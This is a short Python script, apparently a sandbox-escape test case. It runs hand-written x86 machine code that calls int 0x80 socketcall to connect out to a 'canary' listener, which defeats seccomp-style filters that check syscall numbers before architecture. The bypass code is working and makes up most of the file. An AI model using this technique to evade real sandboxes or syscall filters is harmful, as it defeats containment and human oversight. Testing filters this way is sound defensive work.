"""The 32-bit entry int 0x80 has other numbers, and socketcall(2) hides the call.

attacks: a filter that looks at numbers before it looks at the architecture
effect: the canary outside accepts a connection
topic: ABI, i386
"""

import ctypes
import mmap
import socket
import struct

from kit import address, machine_code, sockaddr

MAP_32BIT = 0x40
CONNECT = 3  # of socketcall(2)

s = socket.socket()
low = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT)
start = ctypes.addressof(ctypes.c_char.from_buffer(low))
name = sockaddr(*address())
low[64:64 + len(name)] = name
low[0:12] = struct.pack("=III", s.fileno(), start + 64, len(name))
connect = machine_code(
    b"\x53"                                             # push rbx
    b"\xb8\x66\x00\x00\x00"                             # mov eax, 102 (socketcall)
    b"\xbb" + struct.pack("=I", CONNECT) +              # mov ebx, CONNECT
    b"\xb9" + struct.pack("=I", start) +                # mov ecx, arguments
    b"\xcd\x80"                                         # int 0x80
    b"\x5b\xc3")                                        # pop rbx; ret
print("socketcall:", connect(), flush=True)
